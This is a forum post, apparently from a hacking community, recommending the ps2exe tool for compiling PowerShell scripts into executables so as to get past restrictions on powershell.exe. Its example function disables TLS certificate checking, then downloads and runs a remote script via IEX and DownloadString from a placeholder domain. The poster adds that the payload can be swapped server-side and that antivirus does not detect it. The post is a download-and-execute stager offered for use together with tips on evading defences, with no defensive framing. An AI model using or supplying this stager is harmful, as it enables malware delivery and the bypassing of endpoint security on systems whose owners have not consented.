Jump to content



Recommended Posts

I just wanted to let everybody here know about ps2exe, if you don't already.

You can find it on TechNet if you search for it.

What it does is compile a script to an executable by using a c# source code template that runs the script using the system.management.automation

assembly. Since it uses a class library it stands a pretty good chance on bypassing any restrictions on the Powershell.exe program file.

This is an example script I compiled using ps2exe.

function start-download {

    [System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }

     IEX (New-Object System.Net.Webclient).DownloadString('https://some-domain.com/ps-script.ps1')

    [System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $false }


This way you can change the code server side without having to recompile the binary unless you need to change the URL.

So far AV doesn't light up and It seems to be working in Windows 10.


Link to comment
Share on other sites

Join the conversation

You can post now and register later. If you have an account, sign in now to post with your account.

Reply to this topic...

×   Pastedas rich text.   Paste as plain text instead

  Only 75 emoji are allowed.

×   Your link has been automatically embedded.   Display as a link instead

×Your previous content has been restored.   Clear editor

×   You cannot paste images directly. Upload or insert images from URL.

  • RecentlyBrowsing   0 members

    • No registeredusers viewing this page.
  • Create New...